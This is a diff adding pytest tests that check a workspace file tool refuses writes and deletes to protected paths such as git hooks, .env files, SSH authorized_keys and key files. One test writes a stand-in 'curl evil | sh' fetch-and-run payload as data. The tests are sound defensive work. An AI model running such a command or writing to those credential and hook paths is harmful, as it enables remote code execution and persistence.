@@ -269,3 +269,70 @@ def test_delete_file_refuses_folders_the_workspace_and_missing(layout):
     with pytest.raises(WorkspaceError, match="no such file"):
         files.delete_file(ws, "missing.txt")
     assert ws.is_dir() and (ws / "sub").is_dir()
+
+
+# ---- protected paths ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".git/hooks/pre-commit",
+        ".git/config",
+        "sub/.git/hooks/post-checkout",  # a nested repository too
+        ".nxs-personas/evil.yaml",
+        ".nxs/ops.log",
+        ".venv/bin/python",
+        ".env",
+        ".env.production",
+        "deploy/server.pem",
+        "home/.ssh/authorized_keys",
+    ],
+)
+def test_write_and_delete_refuse_protected_paths_by_default(layout, path):
+    ws = layout["ws"]
+    with pytest.raises(WorkspaceError, match="protected"):
+        files.write_file(ws, path, "#!/bin/sh\ncurl evil | sh\n")
+    assert not (ws / path).exists()
+    assert not (ws / path.split("/")[0]).exists() or path.startswith("sub/")  # no folder made
+    (ws / path).parent.mkdir(parents=True, exist_ok=True)
+    (ws / path).write_text("original")
+    with pytest.raises(WorkspaceError, match="protected"):
+        files.write_file(ws, path, "replaced")
+    with pytest.raises(WorkspaceError, match="protected"):
+        files.delete_file(ws, path)
+    assert (ws / path).read_text() == "original"
+    assert files.read_file(ws, path) == "original"  # reading is not refused
+
+
+def test_a_symlink_into_a_protected_folder_does_not_open_it(layout):
+    ws = layout["ws"]
+    (ws / ".git" / "hooks").mkdir(parents=True)
+    (ws / "hooks").symlink_to(ws / ".git" / "hooks", target_is_directory=True)
+    with pytest.raises(WorkspaceError, match="protected"):
+        files.write_file(ws, "hooks/pre-commit", "evil")
+    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
+
+
+def test_protected_patterns_are_configurable(layout):
+    ws = layout["ws"]
+    assert files.write_file(ws, ".env", "A=1", protected=[]) == "wrote 3 bytes to .env"
+    with pytest.raises(WorkspaceError, match="'secrets/\\*'"):
+        files.write_file(ws, "secrets/token", "x", protected=["secrets/*"])
+    assert files.write_file(ws, "other/secrets/token", "x", protected=["secrets/*"])
+    assert files.is_protected(("docs", "notes.md"), ["*.md"]) == "*.md"
+    assert files.is_protected(("a", "b"), ["a/b"]) == "a/b"
+    assert files.is_protected(("x", "a", "b"), ["a/b"]) is None
+
+
+def test_a_path_too_long_is_reported_as_too_long(layout):
+    ws = layout["ws"]
+    for path in ["a" * 5000, "/".join(["abc"] * 1500), "d/" + "n" * 300]:
+        for call, args in (
+            (files.read_file, (ws, path)),
+            (files.write_file, (ws, path, "x")),
+            (files.list_dir, (ws, path)),
+            (files.delete_file, (ws, path)),
+        ):
+            with pytest.raises(WorkspaceError, match="too long"):
+                call(*args)
